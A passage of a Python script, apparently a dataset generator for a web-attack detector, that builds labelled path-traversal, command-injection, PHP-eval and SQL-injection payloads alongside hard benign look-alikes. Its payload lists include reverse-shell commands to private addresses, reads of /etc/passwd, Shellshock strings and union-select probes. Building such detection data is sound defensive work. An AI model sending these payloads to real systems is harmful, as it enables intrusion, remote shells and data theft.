    return rng.choice("cCdD") + ":\\" + rng.choice(DRIVE_TOPS) + "\\" + rng.choice(DRIVE_SUBS) + "\\" + \
        rng.choice(SERVER_NAMES)


def fam_proc_server_file(rng):
    k = rng.randrange(3)
    if k == 0:
        p = "/proc/" + rng.choice(PROC_ENTRIES)
    elif k == 1:
        p = server_path(rng)
    else:
        p = drive_path(rng)
        if rng.random() < 0.5:
            p = p.replace("\\", "/")
        if rng.random() < 0.2:
            p = "/" + p.replace("\\", "/")
    v = rng.randrange(4)
    if v == 1:
        p = p + "%00"
    elif v == 2:
        p = pct_some(rng, p, "/.\\")
    return p


SHELL_CMDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /tmp", "ping -c 3 127.0.0.1",
              "sleep 5", "nslookup x.example.com", "curl http://x.example.com/a", "hostname"]


def fam_cmd_grammar(rng):
    cmd = rng.choice(SHELL_CMDS)
    k = rng.randrange(5)
    sep = rng.choice(["", ";", "|", "&", "&&", "%0a"])
    if k == 0:  # a bash function definition imported from a variable
        return rng.choice(["() { :; }; ", "() {:;}; ", "() { _; } >_[$($())] { ", "(){ true;};"]) + \
            rng.choice(["", "/bin/bash -c '", "echo; "]) + cmd + rng.choice(["", "'", " }"])
    if k == 1:  # a command stored in a variable, then run
        name = rng.choice(["RUN", "c", "X", "run_1"])
        q = rng.choice(["$'%s'", '$"%s"', "'%s'", '"%s"', "`%s`"])
        ref = rng.choice(["$%s", "${%s}"]) % name
        return sep + name + "=" + (q % cmd) + rng.choice([";", "&&", "|", "\n"]) + ref
    if k == 2:  # cmd.exe carets inside or before a command name
        w = rng.choice(["whoami", "ipconfig /all", "ping -n 3 127.0.0.1", "net user", "systeminfo", "tasklist"])
        name, rest = (w.split(" ", 1) + [""])[:2]
        name = "".join(c + ("^" if rng.random() < 0.4 and i < len(name) - 1 else "") for i, c in enumerate(name))
        pre = rng.choice(["^", "", "&", "|", "&&"])
        return pre + name + (" " + rest if rest else "")
    if k == 3:  # line breaks written out as \n or \r, as echo -e and templates read them
        pre = rng.choice(["", "x", "1", "a;", "'", '"'])
        b = rng.choice(["\\n", "\\r\\n", "\\n\\n"])
        return pre + b + rng.choice([cmd, "/usr/bin/id", "/bin/ls -al"]) + rng.choice(["", "\\n", ";", "|"])
    # an interpreter or netcat run with a script, a path or an address as the whole value
    return rng.choice(["nc -nv 10.0.0.5 9001 -e /bin/sh", "ncat 10.0.0.1 8443 -e /bin/bash", "nc -e /bin/sh 10.0.0.1 9001",
                       "perl -e 'print 1'", "python -c 'import os;os.system(\"id\")'",
                       "php -r 'system(\"id\");'", "ruby -e 'exec \"id\"'", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                       "sh -c 'id'", "powershell -c \"Get-Process\"", "telnet -l root 10.0.0.1 23"])


def fam_php_eval(rng):
    call = rng.choice(["phpversion()", "php_uname()", "system('id')", "passthru($_GET[c])", "usleep(900)",
                       "var_dump(1)", "shell_exec('whoami')", "exec($_POST[x])"])
    k = rng.randrange(5)
    if k == 0:
        return rng.choice(["", " ", "x"]) + "{${" + call + "}}"
    if k == 1:
        return rng.choice(["", ";", "x"]) + "${@" + call + "}"
    if k == 2:
        return rng.choice([";", "'", "|", ""]) + "{$" + rng.choice(["_GET", "_POST", "_REQUEST", "_COOKIE"]) + \
            "[" + rng.choice(["'c'", '"cmd"', "x", "0"]) + "]}"
    if k == 3:
        return rng.choice([";", "|", "&", "';", "\";", "{", ""]) + rng.choice(["phpcredits()", "phpversion()", "php_uname()"]) + \
            rng.choice([";", ";//", "", "}"])
    return rng.choice(["", ";", "';", "|"]) + "eval('" + rng.choice(SHELL_CMDS) + "')" + rng.choice(["", ";", "//"])


def fam_sql_string_join(rng):
    q = rng.choice(["'", '"'])
    k = rng.randrange(3)
    if k == 0:
        mid = rng.choice(["-", "+", "&", "^", "|", " ", "||", " - ", " * ", "/"])
    elif k == 1:
        mid = " " + rcase(rng, rng.choice(["or", "and"])) + " " + q + q + rng.choice([" ", "-", "&", "^", "*"])
    else:
        mid = rng.choice(["  ", "\t", " + "])
    return q + mid + q


def fam_sql_union_probe(rng):
    k = rng.randrange(4)
    if k == 0:
        pre = rng.choice(["", " ", "'", "\"", "')", "1)", "1"])
        words = [sql_kw(rng, "union")] + ([sql_kw(rng, rng.choice(["all", "distinct"]))] if rng.random() < 0.5 else []) + \
            [sql_kw(rng, "select")]
        return pre + sql_blank(rng) + sql_join(rng, words) + rng.choice(["", "--", "-- -", "#", "/*", ";"])
    if k == 1:
        return rng.choice(["", "1", "0"]) + "/*!" + str(rng.choice([50000, 40100, 80011, 32302])) + \
            rng.choice(["union*/", "'*/", " select 1*/", "and 1=1*/"])
    if k == 2:
        a, b = num(rng), num(rng)
        return "(%s=%s)*%s" % (a, rng.choice([a, b]), num(rng))
    return rng.choice(["||", "'||", "\"||", "(||"]) + rng.choice(["(elt(2,version(),user()))", "utl_inaddr.get_host_name('x')",
                                                          "chr(65)", "(select user from dual)", "pg_sleep(5)"])


def fam_sql_condition_comment(rng):
    logic = sql_kw(rng, rng.choice(["or", "and", "OR", "AND"]))
    cond = rng.choice(["a=b", "k=v", "uid=1", "coalesce(null,1)", "login like char(37,37)", "name like '%'",
                       "length(user)>0", "ascii(1)>0", "email is null", "1 in (select 1)"])
    tail = rng.choice(["#", "--", "-- -", "/*", ";", ";--", " limit 1--"])
    return rng.choice([" ", "", "\t", "+"]) + sql_join(rng, [logic, cond]) + tail


HARD_CODE = ["phpinfo() explained", "what phpversion() returns", "~/Downloads", "~/Documents/report.pdf",
             "x^2 + y^2", "2^10 = 1024", "node -v 18", "python -V", "perl -e", "C:\\fakepath\\debug.log",
             "/.well-known/security.txt", "/home/user/docs", "union selection", "'s '", "\"*\"", "'%'",
             "or more -- see below", "Hello ${name}", "()=>{x}", "( ) are brackets {", "{$price} each",
             "a=b; $a is a variable", "line1\\nline2", "C:\\new\\id", "/opt/out", "/usr/profile", "/proc",
             "/logs", "bash 5 release notes", "nc state university", "the \"-\" key",
             "/*! license */", "Union Select Committee", "(3+4)*2"]


def benign_code(rng):
    v = rng.choice(HARD_CODE)
    return v + rng.choice(["", "", " " + rng.choice(["help", "2024", "tutorial", "?"])])


FAMILIES_GRAMMAR = [
    ("traversal", "home-dotfile", fam_home_dotfile),
    ("traversal", "proc-and-server-file", fam_proc_server_file),
    ("cmdi", "shell-grammar-forms", fam_cmd_grammar),
    ("cmdi", "php-code-evaluation", fam_php_eval),
    ("SQLi", "string-join", fam_sql_string_join),
    ("SQLi", "union-probe-comment", fam_sql_union_probe),
    ("SQLi", "condition-cut-by-comment", fam_sql_condition_comment),
]


def draw(rng, families, per_family, out):
    for cls, fam, fn in families:
        seen = set()
        tries = 0
        while len(seen) < per_family and tries < per_family * 20:
            tries += 1
            p = fn(rng)
            if rng.random() < 0.15:  # one more layer of percent-encoding on the special bytes
                p = pct_some(rng, p, "'\"<>/;|&()")
            if p not in seen:
                seen.add(p)
                out.append((cls, fam, p))


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--seed", type=int, default=20261207)
    ap.add_argument("--per-family", type=int, default=60)
    ap.add_argument("--benign", type=int, default=3000)
    a = ap.parse_args()
    rng = random.Random(a.seed)
    out = []
    draw(rng, FAMILIES, a.per_family, out)
    seen = set()
    tries = 0
    while len(seen) < a.benign and tries < a.benign * 20:
        tries += 1
        fam, p = benign_hard(rng)
        if p not in seen:
            seen.add(p)
            out.append(("benign", "hard-" + fam, p))
    rng2 = random.Random(a.seed + 1)
    draw(rng2, FAMILIES_GRAMMAR, a.per_family, out)
    seen = set()
    for _ in range(a.per_family * 20):
        p = benign_code(rng2)
        if p not in seen:
            seen.add(p)
            out.append(("benign", "hard-code", p))
        if len(seen) >= a.per_family * 2:
            break
    for cls, fam, p in out:
        print("%s\t%s\t%s" % (cls, fam, urllib.parse.quote(p.encode(), safe="")))


if __name__ == "__main__":
    main()
